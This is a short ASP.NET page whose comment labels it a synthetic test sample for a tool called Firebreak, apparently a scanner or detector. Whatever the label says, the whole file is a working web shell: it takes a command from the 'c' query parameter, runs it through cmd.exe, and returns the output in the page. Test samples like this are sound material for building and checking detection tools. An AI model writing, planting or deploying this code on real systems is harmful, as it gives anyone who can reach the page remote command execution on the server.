<%@ Page Language="C#" %>
<%@ Import Namespace="System.Diagnostics" %>
<%-- Synthetic test sample for Firebreak: runs a command taken from the
     request. Not real malware. --%>
<script runat="server">
    protected void Page_Load(object sender, EventArgs e)
    {
        string c = Request.QueryString["c"];
        if (string.IsNullOrEmpty(c)) return;
        var psi = new ProcessStartInfo("cmd.exe", "/c " + c);
        psi.RedirectStandardOutput = true;
        psi.UseShellExecute = false;
        using (var p = Process.Start(psi))
        {
            Response.Write(Server.HtmlEncode(p.StandardOutput.ReadToEnd()));
        }
    }
</script>
